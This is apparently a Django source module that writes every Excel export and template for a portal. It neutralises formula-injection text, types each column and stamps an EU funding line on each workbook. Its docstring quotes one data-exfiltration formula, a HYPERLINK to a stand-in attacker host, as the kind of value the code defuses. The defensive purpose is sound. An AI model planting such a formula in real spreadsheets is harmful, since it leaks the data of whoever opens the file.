"""The one Excel writer: every export and every template the portal hands out is written here.

Each cell goes through `neutralise`: text a spreadsheet would run as a formula (leading `= + - @`, tab, CR, LF)
starts with a quote instead, and characters a workbook cannot hold (NUL and other control characters) are dropped,
so a person's name like `=HYPERLINK("http://evil.example/?d="&B2)` is shown, never run, and never fails the file.
Columns are typed (`Column(kind=...)`): numbers stay numbers, dates stay dates, everything else is text.

Every workbook carries the EU funding line and the export date: as its first rows where a person reads it
(`preamble=True`, exports), and always in the file's properties. Templates that are read back and bank files keep
their layout (`preamble=False`) and carry the line in an "About" sheet or the properties only.
"""

import datetime
import io
from dataclasses import dataclass
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _
from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
KINDS = {"auto", "text", "integer", "decimal", "date", "bool"}


def funding_line() -> str:
    return _("This export was produced with the financial support of the European Union.")


def neutralise(value: str) -> str:
    """Text that no spreadsheet runs and every workbook can hold."""
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    return "'" + text if text.startswith(FORMULA_STARTS) else text


@dataclass(frozen=True)
class Column:
    heading: str
    kind: str = "auto"  # one of KINDS; "auto" keeps numbers, dates and booleans, anything else is text
    width: int | None = None

    def cell(self, value):
        if value is None or value == "":
            return None
        if self.kind == "auto":
            return _any_cell(value)
        if self.kind == "integer" and isinstance(value, int) and not isinstance(value, bool):
            return value
        if self.kind == "decimal" and isinstance(value, int | float | Decimal) and not isinstance(value, bool):
            return float(value)
        if self.kind == "date" and isinstance(value, datetime.date):
            return value.replace(tzinfo=None) if isinstance(value, datetime.datetime) else value
        if self.kind == "bool" and isinstance(value, bool):
            return value
        return neutralise(value)


def text_columns(headings) -> list[Column]:
    return [Column(str(h)) for h in headings]


def _any_cell(value):
    """A cell of a sheet without declared columns: numbers, dates and booleans as they are, the rest as text."""
    if value is None or isinstance(value, bool | int | float | datetime.date):
        return value.replace(tzinfo=None) if isinstance(value, datetime.datetime) else value
    if isinstance(value, Decimal):
        return float(value)
    return neutralise(value)


class Sheet:
    def __init__(self, book: "Workbook", raw, columns: list[Column] | None):
        self.book, self.raw, self.columns = book, raw, columns

    def append(self, row) -> None:
        row = list(row)
        if self.columns:
            cells = [c.cell(v) for c, v in zip(self.columns, row, strict=False)]
            cells += [_any_cell(v) for v in row[len(self.columns) :]]
        else:
            cells = [_any_cell(v) for v in row]
        self.raw.append(cells)

    def put(self, row: int, column: int, value) -> None:
        """One cell by position (templates with a fixed layout); not for write-only books."""
        self.raw.cell(row, column, _any_cell(value))

    def heading(self, columns: list[Column] | None = None) -> None:
        """The heading row (bold where the sheet allows styling); sets the columns' types for the rows after it."""
        self.columns = columns if columns is not None else self.columns
        self.raw.append([neutralise(c.heading) for c in self.columns])
        if not self.book.write_only:
            row = self.raw.max_row
            for index, column in enumerate(self.columns, start=1):
                self.raw.cell(row, index).font = Font(bold=True)
                if column.width:
                    self.raw.column_dimensions[self.raw.cell(row, index).column_letter].width = column.width


class Workbook:
    """`book.sheet(title, columns)` → a Sheet whose `append` neutralises and types every cell; `to_bytes()`."""

    def __init__(self, *, write_only: bool = False, preamble: bool = True, about_sheet: bool = False):
        self.write_only, self.preamble, self.about_sheet = write_only, preamble, about_sheet
        self.exported_at = timezone.localtime()
        self._book = _OpenpyxlWorkbook(write_only=write_only)
        if not write_only:
            self._book.remove(self._book.active)
        self._book.properties.description = f"{funding_line()} {self.export_date_line()}"
        self._book.properties.creator = "İmalatta Kadın Portalı"

    def export_date_line(self) -> str:
        return _("Exported on %(date)s") % {"date": self.exported_at.strftime("%Y-%m-%d %H:%M")}

    def sheet(self, title: str, columns: list[Column] | None = None, *, caption: str | None = None) -> Sheet:
        raw = self._book.create_sheet(neutralise(title).lstrip("'")[:31] or "Sheet")
        sheet = Sheet(self, raw, columns)
        if self.preamble:
            raw.append([neutralise(funding_line())])
            raw.append([neutralise(self.export_date_line())])
        if caption:
            raw.append([neutralise(caption)])
        if columns:
            sheet.heading(columns)
        return sheet

    def add_sheet(self, title: str) -> Sheet:
        """A sheet without the preamble: notes and "read me" sheets of a template."""
        return Sheet(self, self._book.create_sheet(neutralise(title).lstrip("'")[:31] or "Sheet"), None)

    def to_bytes(self) -> bytes:
        if self.about_sheet:
            about = self._book.create_sheet(_("About")[:31])
            about.append([neutralise(funding_line())])
            about.append([neutralise(self.export_date_line())])
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()


def xlsx_response(book: Workbook, filename: str) -> HttpResponse:
    response = HttpResponse(book.to_bytes(), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def table_workbook(title: str, headings, rows, *, columns: list[Column] | None = None) -> Workbook:
    """The common shape: one sheet, a heading row, rows."""
    book = Workbook()
    sheet = book.sheet(title, columns or text_columns(headings))
    for row in rows:
        sheet.append(row)
    return book
